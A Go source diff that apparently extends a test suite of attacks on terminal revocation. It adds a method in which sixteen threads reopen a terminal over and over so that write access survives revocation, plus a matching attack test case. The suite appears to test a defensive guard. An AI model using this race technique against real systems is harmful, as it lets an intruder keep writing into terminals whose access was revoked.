@@ -26,6 +26,7 @@ const (
 	inTable  = "table"    // as an open file, which anybody with the right finds
 	inFlight = "socket"   // on its way through a socket
 	inRing   = "io_uring" // registered with an io_uring, its descriptor closed
+	inCrowd  = "crowd"    // as many files, since it is opened over and over
 )
 
 const goFile = "go"
@@ -46,7 +47,7 @@ func lurk(where, home string) int {
 			if err != nil {
 				continue // root's, as the client's is
 			}
-			write, err := hide(where, fd)
+			write, err := hide(where, fd, name)
 			if err != nil {
 				fmt.Println("can't hide:", err)
 				return 1
@@ -64,13 +65,15 @@ func lurk(where, home string) int {
 }
 
 // hide returns what writes to fd from where it is hidden.
-func hide(where string, fd int) (write func(string) error, err error) {
+func hide(where string, fd int, name string) (write func(string) error, err error) {
 	plain := func(fd int) func(string) error {
 		return func(s string) error { _, err := unix.Write(fd, []byte(s)); return err }
 	}
 	switch where {
 	case inTable:
 		return plain(fd), nil
+	case inCrowd:
+		return crowd(name).write, nil
 	case inFlight:
 		pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
 		if err != nil {
@@ -101,6 +104,52 @@ func hide(where string, fd int) (write func(string) error, err error) {
 		return nil, err
 	}
 	return r.write, unix.Close(fd)
+}
+
+// crowd opens a terminal in many threads at once, until it is written to: an
+// open that was allowed and is under way while the terminal is revoked would be
+// one that is not.
+type crowdOf []chan int
+
+func crowd(name string) crowdOf {
+	const threads = 16
+	all := make(crowdOf, threads)
+	for i := range all {
+		newest := make(chan int, 1)
+		all[i] = newest
+		go func() {
+			for {
+				fd, err := unix.Open(name, unix.O_RDWR|unix.O_NOCTTY, 0)
+				if err != nil {
+					continue
+				}
+				select {
+				case old := <-newest:
+					_ = unix.Close(old)
+				default:
+				}
+				newest <- fd
+			}
+		}()
+	}
+	return all
+}
+
+func (c crowdOf) write(s string) error {
+	err := unix.EIO
+	for _, newest := range c {
+		select {
+		case fd := <-newest:
+			if _, writeErr := unix.Write(fd, []byte(s)); writeErr == nil {
+				err = 0
+			}
+		default:
+		}
+	}
+	if err != 0 {
+		return err
+	}
+	return nil
 }
 
 // ring is an io_uring with one file, io_uring_enter(2).
@@ -241,5 +290,9 @@ var lurking = []attack{
 	{
 		id: "513", what: "the same, the terminal registered with an io_uring", by: byRevoking,
 		naive: works, guard: true, try: hidden(inRing, lurkings),
+	},
+	{
+		id: "513", what: "the same, the terminal opened over and over by sixteen threads", by: byRevoking,
+		naive: works, guard: true, try: hidden(inCrowd, 10),
 	},
 }
